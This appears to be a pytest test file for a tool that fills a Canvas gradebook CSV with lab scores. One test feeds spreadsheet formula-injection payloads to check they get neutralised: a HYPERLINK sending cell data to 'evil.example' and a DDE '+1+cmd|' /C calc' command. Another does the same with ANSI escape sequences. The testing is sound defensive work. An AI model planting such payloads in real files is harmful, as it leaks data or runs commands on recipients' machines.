"""Filling an instructor's Canvas gradebook export with a batch's scores (grader.batch.canvas)."""

from __future__ import annotations

import contextlib
import csv
import io
import os
import threading
import tracemalloc
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner, Result

from grader.batch.canvas import CanvasError, Filled, fill_gradebook
from grader.batch.model import RosterRow, StudentOutcome
from grader.results import CheckResult, GradeResult

# Modelled on Canvas's "Export Entire Gradebook": identity columns, an assignment that is not the lab's,
# read-only totals, the points row (with its leading spaces), two sections (one with a comma in its
# name), a login that is an email, a student without an SIS login, and Canvas's test student.
EXPORT = (
    "Student,ID,SIS User ID,SIS Login ID,Section,Lab 2 (11111),Assignments Current Score,"
    "Assignments Final Score,Current Score,Unposted Current Score,Final Score,Current Grade,Final Grade\n"
    "    Points Possible,,,,,10.00,(read only),(read only),(read only),(read only),(read only),"
    "(read only),(read only)\n"
    '"Doe, Jane",1001,S-1001,jdoe,Cloud 101 Section A,8.00,80.00,80.00,80.00,80.00,80.00,B-,B-\n'
    '"Roe, Richard",1002,S-1002,rroe,"Cloud 101, Section B",10.00,100.00,100.00,100.00,100.00,100.00,A,A\n'
    '"Lee, Ann",1003,S-1003,ALee@Example.edu,Cloud 101 Section A,,,,,,0.00,,F\n'
    '"Kim, Bo",1004,S-1004,,"Cloud 101, Section B",6.50,65.00,65.00,65.00,65.00,65.00,D,D\n'
    '"Student, Test",1099,,,Cloud 101 Section A,,,,,,,,\n'
)

IDENTITY = ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]


def graded(student_id: str, score: float, max_score: float = 12, *, line: int = 2, **fields: str) -> StudentOutcome:
    """A graded student of the batch whose one check earned `score` of `max_score`."""
    check = CheckResult("lab.done", "Lab done", "Lab", "pass", score, max_score, "Done.")
    result = GradeResult(
        student=student_id,
        account_id="123456789012",
        caller_arn="arn:aws:sts::123456789012:assumed-role/voclabs/user1",
        region="us-east-1",
        spec_id="cognito-lab",
        spec_title="Connect with Cognito",
        grader_version="0.1.0",
        started="2024-05-01T10:00:00+00:00",
        finished="2024-05-01T10:00:04+00:00",
        duration_seconds=4.0,
        checks=(check,),
    )
    return StudentOutcome(row=RosterRow(line=line, student_id=student_id, **fields), status="graded", result=result)


def ungradable(student_id: str, *, line: int = 2, **fields: str) -> StudentOutcome:
    """An ungradable student of the batch (expired credentials)."""
    return StudentOutcome(
        row=RosterRow(line=line, student_id=student_id, **fields),
        status="ungradable",
        reason="The lab session has ended: start the lab, copy fresh AWS Details, send them again.",
    )


def parsed(filled: Filled) -> list[list[str]]:
    """The filled file read back with the csv module."""
    return list(csv.reader(io.StringIO(filled.text)))


def by_id(rows: list[list[str]]) -> dict[str, list[str]]:
    """Rows of a filled file by their Canvas ID (the second column)."""
    return {row[1]: row for row in rows[1:] if row[1]}


def refused(export: str, assignment: str, outcomes: list[StudentOutcome], *, new_column: bool = True) -> CanvasError:
    """The CanvasError that filling raises (a missing column is made, unless `new_column` is False)."""
    with pytest.raises(CanvasError) as caught:
        fill_gradebook(export, assignment, outcomes, new_column=new_column)
    return caught.value


def test_fills_a_new_column_and_keeps_only_identity_and_that_column() -> None:
    outcomes = [
        graded("s1", 9.5, sis_login_id="jdoe"),
        graded("s2", 12, sis_login_id="rroe"),
        graded("s3", 4, sis_login_id="alee@example.edu"),
        graded("1004", 1 / 3, email="bo.kim@example.edu"),
    ]
    filled = fill_gradebook(EXPORT, "Lab 3 Cognito", outcomes, new_column=True)

    rows = parsed(filled)
    assert rows[0] == [*IDENTITY, "Lab 3 Cognito"]
    assert rows[1] == ["    Points Possible", "", "", "", "", "12"]
    assert rows[2:] == [
        ["Doe, Jane", "1001", "S-1001", "jdoe", "Cloud 101 Section A", "9.5"],
        ["Roe, Richard", "1002", "S-1002", "rroe", "Cloud 101, Section B", "12"],
        ["Lee, Ann", "1003", "S-1003", "ALee@Example.edu", "Cloud 101 Section A", "4"],
        ["Kim, Bo", "1004", "S-1004", "", "Cloud 101, Section B", "0.3333"],
        ["Student, Test", "1099", "", "", "Cloud 101 Section A", ""],
    ]
    assert (filled.column, filled.created, filled.written, filled.left_empty, filled.untouched) == (
        "Lab 3 Cognito",
        True,
        4,
        [],
        1,
    )
    assert "Current Score" not in filled.text
    assert "Lab 2" not in filled.text


def test_fills_the_exports_own_column_and_keeps_other_rows_values() -> None:
    export = EXPORT.replace("Lab 2 (11111)", "Lab 3 (22222)").replace("10.00", "12.00", 1)
    filled = fill_gradebook(export, "Lab 3 (22222)", [graded("s1", 11, sis_login_id="jdoe")])

    rows = parsed(filled)
    assert rows[0] == [*IDENTITY, "Lab 3 (22222)"]
    assert rows[1][-1] == "12"
    assert {canvas_id: row[-1] for canvas_id, row in by_id(rows).items()} == {
        "1001": "11",
        "1002": "10.00",
        "1003": "",
        "1004": "6.50",
        "1099": "",
    }
    assert not filled.created
    assert filled.untouched == 4


@pytest.mark.parametrize("named", ["Lab 3", "Lab 3 (22222)", "Lab 3 renamed (22222)"])
def test_finds_the_exports_column_by_its_title_or_its_id(named: str) -> None:
    export = EXPORT.replace("Lab 2 (11111)", "Lab 3 (22222)").replace("10.00", "12.00", 1)
    filled = fill_gradebook(export, named, [graded("s1", 11, sis_login_id="jdoe")])

    assert parsed(filled)[0][-1] == "Lab 3 (22222)"
    assert by_id(parsed(filled))["1001"][-1] == "11"


def test_matches_by_sis_login_in_any_case() -> None:
    filled = fill_gradebook(
        EXPORT, "Lab 3", [graded("u-77", 7, sis_login_id="JDOE", name="Someone Else")], new_column=True
    )

    assert by_id(parsed(filled))["1001"][-1] == "7"
    assert filled.written == 1


def test_matches_by_canvas_id_when_the_roster_has_no_sis_login() -> None:
    filled = fill_gradebook(EXPORT, "Lab 3", [graded("1002", 5)], new_column=True)

    assert by_id(parsed(filled))["1002"][-1] == "5"


def test_matches_by_canvas_id_when_the_sis_login_finds_no_row_and_the_row_has_none() -> None:
    filled = fill_gradebook(EXPORT, "Lab 3", [graded("1004", 5, sis_login_id="bkim")], new_column=True)

    assert by_id(parsed(filled))["1004"][-1] == "5"


def test_matches_by_email_against_the_sis_login() -> None:
    filled = fill_gradebook(EXPORT, "Lab 3", [graded("s-ann", 6, email="alee@EXAMPLE.edu")], new_column=True)

    assert by_id(parsed(filled))["1003"][-1] == "6"


def test_matches_by_email_column_which_is_read_but_not_written_back() -> None:
    export = EXPORT.replace("Section,Lab 2", "Section,Email,Lab 2").replace(
        "Cloud 101 Section A,8.00", "Cloud 101 Section A,jane.doe@example.edu,8.00"
    )
    filled = fill_gradebook(export, "Lab 3", [graded("s-jane", 6, email="Jane.Doe@example.edu")], new_column=True)

    rows = parsed(filled)
    assert rows[0] == [*IDENTITY, "Lab 3"]
    assert by_id(rows)["1001"][-1] == "6"


def test_never_matches_by_name() -> None:
    outcomes = [
        graded("s-jane", 9, name="Doe, Jane"),
        graded("s-rich", 9, name="Roe, Richard", sis_login_id="richard.roe", line=3),
    ]
    error = refused(EXPORT, "Lab 3", outcomes)

    assert len(error.problems) == 2
    assert "Student s-jane" in error.problems[0]
    assert "never matched by name" in error.problems[0]
    assert "Student s-rich" in error.problems[1]
    assert "'richard.roe'" in error.problems[1]


def test_unmatched_and_doubly_matched_students_are_refused_together() -> None:
    # The same login on two rows (say, two section exports pasted into one file).
    export = EXPORT + '"Roe, Richard",1002,S-1002,rroe,Cloud 101 Section A,,,,,,,,\n'
    outcomes = [
        graded("s1", 9, sis_login_id="jdoe", line=2),
        graded("s2", 9, sis_login_id="rroe", line=3),
        graded("s9", 9, sis_login_id="nobody", email="nobody@example.edu", line=4),
    ]
    error = refused(export, "Lab 3", outcomes)

    assert "nothing was written" in error.message
    assert len(error.problems) == 2
    several, unmatched = error.problems
    assert "Student s2 (roster line 3)" in several
    assert "2 gradebook rows have SIS Login ID 'rroe'" in several
    assert "row 4 (Roe, Richard)" in several
    assert "row 8" in several
    assert "Student s9 (roster line 4)" in unmatched
    assert "SIS Login ID 'nobody' or email 'nobody@example.edu'" in unmatched
    assert "Student s9" in str(error)


def test_two_students_on_one_row_are_refused() -> None:
    outcomes = [graded("s1", 9, sis_login_id="jdoe"), graded("1001", 3, line=3)]
    error = refused(EXPORT, "Lab 3", outcomes)

    assert len(error.problems) == 1
    assert "Student s1" in error.problems[0]
    assert "Student 1001" in error.problems[0]
    assert "row 3 (Doe, Jane)" in error.problems[0]


def test_a_canvas_id_whose_row_is_someone_elses_is_refused() -> None:
    # The roster's student_id happens to be a Canvas ID, but that row's SIS login is another student's.
    error = refused(EXPORT, "Lab 3", [graded("1002", 9, sis_login_id="zed")])

    assert len(error.problems) == 1
    assert "SIS Login ID is 'rroe', not 'zed'" in error.problems[0]


def test_ungradable_students_are_left_empty_never_zero() -> None:
    outcomes = [graded("s1", 9, sis_login_id="jdoe"), ungradable("s2", sis_login_id="rroe", line=3)]
    filled = fill_gradebook(EXPORT, "Lab 3", outcomes, new_column=True)

    assert by_id(parsed(filled))["1002"][-1] == ""
    assert filled.left_empty == ["s2"]
    assert filled.written == 1


def test_a_student_with_a_check_the_grader_could_not_look_at_is_left_as_the_gradebook_held() -> None:
    """A graded student with one check in error gets no lowered score in Canvas: their cell is left, and counted."""
    from dataclasses import replace

    export = EXPORT.replace("Lab 2 (11111)", "Lab 3 (22222)").replace("10.00", "12.00", 1)
    blind = graded("s2", 9, sis_login_id="rroe", line=3)
    assert blind.result is not None
    unseen = replace(blind.result.checks[0], status="error", points=0.0, message="AccessDenied on LookupEvents.")
    outcomes = [graded("s1", 9, sis_login_id="jdoe"), replace(blind, result=replace(blind.result, checks=(unseen,)))]
    filled = fill_gradebook(export, "Lab 3 (22222)", outcomes)

    assert by_id(parsed(filled))["1002"][-1] == "10.00"
    assert filled.left_empty == ["s2"]
    assert filled.written == 1


def test_ungradable_students_keep_what_the_gradebook_held() -> None:
    export = EXPORT.replace("Lab 2 (11111)", "Lab 3 (22222)").replace("10.00", "12.00", 1)
    outcomes = [graded("s1", 9, sis_login_id="jdoe"), ungradable("s2", sis_login_id="rroe", line=3)]
    filled = fill_gradebook(export, "Lab 3 (22222)", outcomes)

    assert by_id(parsed(filled))["1002"][-1] == "10.00"


def test_an_unmatched_ungradable_student_is_refused_too() -> None:
    error = refused(EXPORT, "Lab 3", [ungradable("s7", sis_login_id="gone")])

    assert "Student s7" in error.problems[0]


def test_an_existing_column_worth_other_points_is_refused() -> None:
    export = EXPORT.replace("Lab 2 (11111)", "Lab 3 (22222)")
    error = refused(export, "Lab 3 (22222)", [graded("s1", 9, sis_login_id="jdoe")])

    assert "worth 10.00 points" in error.problems[0]
    assert "out of 12" in error.problems[0]


def test_a_read_only_total_column_is_refused() -> None:
    error = refused(EXPORT, "Current Score", [graded("s1", 9, sis_login_id="jdoe")])

    assert "read-only" in error.message


def test_bom_crlf_and_integration_id_are_handled() -> None:
    export = "\ufeff" + EXPORT.replace("SIS Login ID,Section", "SIS Login ID,Integration ID,Section").replace(
        "jdoe,Cloud", "jdoe,INT-1,Cloud"
    ).replace("\n", "\r\n")
    filled = fill_gradebook(export, "Lab 3", [graded("s1", 9, sis_login_id="jdoe")], new_column=True)

    rows = parsed(filled)
    assert rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Integration ID", "Section", "Lab 3"]
    assert rows[2] == ["Doe, Jane", "1001", "S-1001", "jdoe", "INT-1", "Cloud 101 Section A", "9"]
    assert "\r" not in filled.text
    assert not filled.text.startswith("\ufeff")


def test_a_points_row_is_added_when_the_export_has_none() -> None:
    lines = EXPORT.splitlines(keepends=True)
    export = lines[0] + "".join(lines[2:])
    filled = fill_gradebook(export, "Lab 3", [graded("s1", 9, sis_login_id="jdoe")], new_column=True)

    rows = parsed(filled)
    assert rows[1] == ["    Points Possible", "", "", "", "", "12"]
    assert rows[2][0] == "Doe, Jane"


def test_a_file_without_the_identity_columns_is_refused() -> None:
    error = refused("Name,Score\nJane,9\n", "Lab 3", [graded("s1", 9, sis_login_id="jdoe")])

    assert "no 'Student' and no 'ID' column" in error.message
    assert error.problems == []


def test_an_assignment_name_that_is_a_formula_is_refused() -> None:
    error = refused(EXPORT, '=HYPERLINK("http://x")', [graded("s1", 9, sis_login_id="jdoe")])

    assert "formula" in error.message


def test_results_out_of_different_totals_are_refused() -> None:
    outcomes = [graded("s1", 9, 12, sis_login_id="jdoe"), graded("s2", 9, 10, sis_login_id="rroe", line=3)]
    error = refused(EXPORT, "Lab 3", outcomes)

    assert "different totals (10, 12)" in error.problems[0]


# --- an assignment the gradebook lacks ---------------------------------------------------------------------------


def test_an_assignment_the_gradebook_lacks_is_refused_with_its_assignment_columns() -> None:
    """A column name the gradebook does not have is refused, listing its assignment columns (no totals, no ids)."""
    error = refused(EXPORT, "Lab 3", [graded("s1", 9, sis_login_id="jdoe")], new_column=False)

    assert "no column 'Lab 3'" in error.message
    assert "'Lab 2 (11111)'" in error.message
    assert "--new-column" in error.message
    assert "Current Score" not in error.message
    assert "SIS Login ID" not in error.message


def test_the_refusal_cuts_a_long_list_of_assignment_columns_short() -> None:
    """With many assignment columns, the refusal names the first few and counts the rest."""
    header = "Student,ID," + ",".join(f"Quiz {n} ({n})" for n in range(1, 31))
    error = refused(f"{header}\nJane,1001\n", "Lab 3", [graded("1001", 9)], new_column=False)

    assert "'Quiz 10 (10)'" in error.message
    assert "Quiz 11 (11)" not in error.message
    assert "and 20 more" in error.message


@pytest.mark.parametrize("new_column", [True, False])
def test_an_assignment_the_gradebook_has_is_filled_with_or_without_new_column(new_column: bool) -> None:
    """An existing column is filled either way: --new-column only allows making a missing one."""
    export = EXPORT.replace("Lab 2 (11111)", "Lab 3 (22222)").replace("10.00", "12.00", 1)
    filled = fill_gradebook(export, "Lab 3", [graded("s1", 11, sis_login_id="jdoe")], new_column=new_column)

    assert (filled.column, filled.created) == ("Lab 3 (22222)", False)


# --- formulas and control characters in what the gradebook holds -------------------------------------------------

HOSTILE_EXPORT = (
    "Student,ID,SIS User ID,SIS Login ID,Section,Lab 3 (22222)\n"
    "    Points Possible,,,,,12.00\n"
    "{cell},2001,{cell},{cell},{cell},{cell}\n"
    '"Doe, Jane",1001,S-1001,jdoe,Cloud 101,-2.00\n'
    ",,,,,{cell}\n"
)


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"Open")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        " =1+1",
    ],
)
def test_copied_cells_that_start_a_formula_get_a_leading_quote(cell: str) -> None:
    """Names, SIS ids, sections and kept scores copied from the gradebook cannot start a formula."""
    quoted = '"' + cell.replace('"', '""') + '"'
    export = HOSTILE_EXPORT.format(cell=quoted)
    filled = fill_gradebook(export, "Lab 3 (22222)", [graded("s1", 9, sis_login_id="jdoe")])

    rows = parsed(filled)
    hostile = by_id(rows)["2001"]
    assert hostile == ["'" + cell, "2001", "'" + cell, "'" + cell, "'" + cell, "'" + cell]
    assert rows[-1][-1] == "'" + cell
    assert rows[0] == [*IDENTITY, "Lab 3 (22222)"]
    assert rows[1] == ["    Points Possible", "", "", "", "", "12"]


def test_scores_and_plain_numbers_stay_numbers() -> None:
    """The grader's scores and the gradebook's plain numbers (a negative one too) are written as numbers."""
    export = HOSTILE_EXPORT.format(cell="=1+1")
    filled = fill_gradebook(export, "Lab 3 (22222)", [graded("2001", 0)])

    rows = parsed(filled)
    assert by_id(rows)["2001"][-1] == "0"
    assert by_id(rows)["1001"][-1] == "-2.00"
    assert rows[1][-1] == "12"
    assert float(by_id(rows)["2001"][-1]) == 0


def test_an_existing_column_whose_header_starts_a_formula_keeps_its_canvas_id() -> None:
    """Canvas finds a column by the id in its header, so a formula-like header is quoted and still found."""
    export = HOSTILE_EXPORT.format(cell="x").replace("Lab 3 (22222)", "=Lab 3 (22222)")
    filled = fill_gradebook(export, "Lab 3 (22222)", [graded("s1", 9, sis_login_id="jdoe")])

    assert parsed(filled)[0][-1] == "'=Lab 3 (22222)"
    assert filled.column == "'=Lab 3 (22222)"


@pytest.mark.parametrize(
    ("payload", "cleaned"),
    [
        ("\x1b[31mred\x1b[0m", "red"),
        ("line\nbreak", "line break"),
        ("car\rriage", "carriage"),
        ("tab\there", "tab here"),
        ("del\x7f", "del"),
        ("nel\x85", "nel"),
        ("csi\x9b2J", "csi"),
        ("nul\x00", "nul"),
    ],
)
def test_control_characters_in_the_gradebook_are_not_copied(payload: str, cleaned: str) -> None:
    """C0 and C1 controls (escape sequences, newlines, DEL) in copied cells are removed or become a space."""
    export = HOSTILE_EXPORT.format(cell=f'"{payload}"')
    filled = fill_gradebook(export, "Lab 3 (22222)", [graded("s1", 9, sis_login_id="jdoe")])

    rows = parsed(filled)
    assert by_id(rows)["2001"] == [cleaned, "2001", cleaned, cleaned, cleaned, cleaned]
    assert not [c for row in rows for cell in row for c in cell if ord(c) < 32 or 127 <= ord(c) < 160]


# --- a gradebook read from a file and written beside --out -------------------------------------------------------


def class_export(students: int, assignments: int = 40) -> str:
    """A gradebook of `students` rows (login0, login1, ...) and `assignments` columns, Lab 7 (10007) among them."""
    titles = [f"Lab {n} ({10000 + n})" for n in range(1, assignments + 1)]
    lines = [",".join(["Student", "ID", "SIS User ID", "SIS Login ID", "Section", *titles, "Current Score"])]
    lines.append("    Points Possible,,,,," + ",".join(["12.00"] * assignments) + ",(read only)")
    scores = ",".join(f"{n % 13}.00" for n in range(assignments))
    lines += [f'"Name{n}, Some",{5000 + n},S-{n},login{n},Section A,{scores},80.00' for n in range(students)]
    return "\n".join(lines) + "\n"


def export_canvas(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, export: str | None, outcomes: list[StudentOutcome], *args: str
) -> Result:
    """`grader export canvas` for a batch of `outcomes` on tmp_path/gradebook.csv (`export`, unless None).

    It writes tmp_path/import.csv.
    """
    from grader.cli import app

    monkeypatch.setattr("grader.batch.outputs.outcomes_of", lambda folder: outcomes)
    gradebook = tmp_path / "gradebook.csv"
    if export is not None:
        gradebook.write_text(export, encoding="utf-8", newline="")
    command = ["export", "canvas", str(tmp_path), "--gradebook", str(gradebook), "--out", str(tmp_path / "import.csv")]
    return CliRunner().invoke(app, [*command, *args])


def test_export_canvas_refuses_a_missing_column_unless_new_column_is_given(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`export canvas` refuses an assignment the gradebook lacks, and adds it with --new-column."""
    outcomes = [graded("s1", 9, sis_login_id="jdoe")]

    refused_run = export_canvas(tmp_path, monkeypatch, EXPORT, outcomes, "--assignment", "Lab 3")
    assert refused_run.exit_code == 2
    assert "Its assignment columns are 'Lab 2 (11111)'" in " ".join(refused_run.output.split())
    assert not (tmp_path / "import.csv").exists()

    made = export_canvas(tmp_path, monkeypatch, EXPORT, outcomes, "--assignment", "Lab 3", "--new-column")
    assert made.exit_code == 0, made.output
    assert (tmp_path / "import.csv").read_text(encoding="utf-8").splitlines()[2].endswith(",9")


def test_export_canvas_writes_what_filling_the_text_gives(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The file `export canvas` writes is byte for byte the filled text, BOM and CRLF in the gradebook or not."""
    export = "\ufeff" + class_export(300).replace("\n", "\r\n")
    outcomes = [graded(f"s{n}", n % 12, sis_login_id=f"login{n * 7}", line=n + 2) for n in range(40)]

    result = export_canvas(tmp_path, monkeypatch, export, outcomes, "--assignment", "Lab 7 (10007)")

    assert result.exit_code == 0, result.output
    written = (tmp_path / "import.csv").read_bytes()
    assert written == fill_gradebook(export, "Lab 7 (10007)", outcomes).text.encode("utf-8")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["gradebook.csv", "import.csv"]


def test_a_failed_write_leaves_the_previous_file_and_no_temporary_one(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """When writing fails part way, --out keeps what it held and no half-written or temporary file is left."""
    (tmp_path / "import.csv").write_text("the previous import\n", encoding="utf-8")

    def full_disk(fd: int) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", full_disk)
    result = export_canvas(
        tmp_path,
        monkeypatch,
        class_export(50),
        [graded("s1", 9, sis_login_id="login3")],
        "--assignment",
        "Lab 7 (10007)",
    )

    assert result.exit_code == 2
    assert "No space left on device" in result.output
    assert (tmp_path / "import.csv").read_text(encoding="utf-8") == "the previous import\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["gradebook.csv", "import.csv"]


def test_a_gradebook_changed_while_it_is_filled_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Rows are read twice (to match, then to write): a gradebook changed in between writes nothing."""
    from grader.batch import canvas

    real_plan = canvas._plan

    def plan_then_edit(*args: Any, **kwargs: Any) -> Any:
        plan = real_plan(*args, **kwargs)
        with (tmp_path / "gradebook.csv").open("a", encoding="utf-8") as file:
            file.write('"Late, Joiner",9999,,late,Section A\n')
        return plan

    monkeypatch.setattr(canvas, "_plan", plan_then_edit)
    result = export_canvas(
        tmp_path,
        monkeypatch,
        class_export(50),
        [graded("s1", 9, sis_login_id="login3")],
        "--assignment",
        "Lab 7 (10007)",
    )

    assert result.exit_code == 2
    assert "changed" in result.output
    assert not (tmp_path / "import.csv").exists()


def test_memory_does_not_grow_with_the_gradebook(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Filling a ~5 MB gradebook peaks at about the memory of a tiny one: rows are streamed, not held."""
    outcomes = [graded(f"s{n}", n % 12, sis_login_id=f"login{n * 7}", line=n + 2) for n in range(30)]
    peaks = []
    for students in (250, 250, 19_000):  # the first run imports what the command needs
        (tmp_path / "gradebook.csv").write_text(class_export(students), encoding="utf-8")
        tracemalloc.start()
        try:
            result = export_canvas(tmp_path, monkeypatch, None, outcomes, "--assignment", "Lab 7")
            peaks.append(tracemalloc.get_traced_memory()[1])
        finally:
            tracemalloc.stop()
        assert result.exit_code == 0, result.output
    assert (tmp_path / "gradebook.csv").stat().st_size > 5_000_000
    tiny, big = peaks[1], peaks[2]
    assert big < 2 * tiny + 512_000, (tiny, big)


def test_a_gradebook_that_is_not_utf8_is_refused_and_nothing_written(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A byte that is not UTF-8, late in the gradebook, stops the export before anything is written."""
    (tmp_path / "gradebook.csv").write_bytes(class_export(200).encode("utf-8") + b'"Ren\xe9e",7777,,renee,A\n')
    result = export_canvas(
        tmp_path, monkeypatch, None, [graded("s1", 9, sis_login_id="login3")], "--assignment", "Lab 7 (10007)"
    )

    assert result.exit_code == 2
    assert "could not be read (UnicodeDecodeError)" in " ".join(result.output.split())
    assert sorted(p.name for p in tmp_path.iterdir()) == ["gradebook.csv"]


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="named pipes are POSIX")
def test_a_gradebook_that_cannot_be_read_twice_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A pipe (say, `--gradebook <(...)`) cannot be read a second time: it is refused as the gradebook's fault."""
    pipe = tmp_path / "gradebook.csv"
    os.mkfifo(pipe)

    def feed() -> None:
        with contextlib.suppress(BrokenPipeError):  # the export stops reading once it sees a pipe
            pipe.write_text(class_export(20), encoding="utf-8")

    feeder = threading.Thread(target=feed, daemon=True)
    feeder.start()
    try:
        result = export_canvas(
            tmp_path, monkeypatch, None, [graded("s1", 9, sis_login_id="login3")], "--assignment", "Lab 7 (10007)"
        )
    finally:
        feeder.join(timeout=10)

    assert result.exit_code == 2
    assert "save the export as a file" in " ".join(result.output.split())
    assert not (tmp_path / "import.csv").exists()


def test_many_rows_sharing_a_students_key_are_counted_not_all_listed() -> None:
    """A login on hundreds of rows is one problem naming the first few rows and counting the rest."""
    export = EXPORT + "".join(f'"Copy, {n}",{3000 + n},,jdoe,A,,,,,,,,\n' for n in range(300))
    error = refused(export, "Lab 3", [graded("s1", 9, sis_login_id="jdoe")])

    assert len(error.problems) == 1
    assert "301 gradebook rows have SIS Login ID 'jdoe'" in error.problems[0]
    assert "row 3 (Doe, Jane)" in error.problems[0]
    assert "and 296 more" in error.problems[0]
    assert "Copy, 299" not in error.problems[0]
